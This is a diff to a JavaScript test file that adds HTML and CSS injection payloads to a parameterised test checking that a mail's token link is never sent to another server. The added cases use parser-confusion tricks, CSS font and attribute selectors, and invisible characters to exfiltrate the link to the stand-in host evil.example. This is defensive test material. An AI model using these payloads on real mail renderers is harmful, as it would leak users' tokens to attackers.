@@ -192,6 +192,16 @@ describe('#69 the name of the operator for rent', () => {
     `<style>x<y{} a[href*="token=a"] {}</style><a href="${link}">x</a>`,
     `<style>@\\69mport "https://evil.example/x.css"</style><a href="${link}">x</a>`,
     `<link rel="stylesheet" href="https://evil.example/x.css"><a href="${link}">x</a>`,
+    // What tokens take for the text of an element is markup for a parser.
+    `<select><xmp><input type=image src='https://evil.example/?t=</xmp></select> ${link} '>`,
+    `<frameset><xmp><frame src='https://evil.example/?t=</xmp></frameset> ${link} '>`,
+    `<noscript><i title="</noscript><img src='https://evil.example/?t="></noscript> ${link} '>`,
+    `<select><xmp><input><style>a[href*="a"]{}</style></xmp></select><a href="${link}">x</a>`,
+    `<template><style></template> ${link}`,
+    `<style>@font-face { font-family: x; src: url(https://evil.example/a); unicode-range: U+61 }</style>${link}`,
+    `<!--[if mso]><img src="https://evil.example/?t=<![endif]--> ${link} ">`,
+    `<p>https://evil.example/?t=\uFEFF${link}</p>`,
+    `<p>https://evil.example/?t=\u00A0${link}</p>`,
   ])('no other server gets the link of a mail: %s', async (html) => {
     for (const document of [UPDATE, PREVIEW]) {
       const input = { ...TEXTS, html: `<p>Open ${link}</p>${html}` };
